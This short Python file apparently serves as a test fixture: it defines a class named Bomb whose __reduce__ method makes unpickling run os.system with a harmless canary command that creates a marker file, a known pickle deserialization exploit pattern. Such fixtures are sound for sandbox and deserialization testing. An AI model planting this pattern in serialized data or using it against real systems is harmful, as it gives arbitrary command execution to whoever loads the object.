import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch CANARY/escaped",)


rate = Bomb()
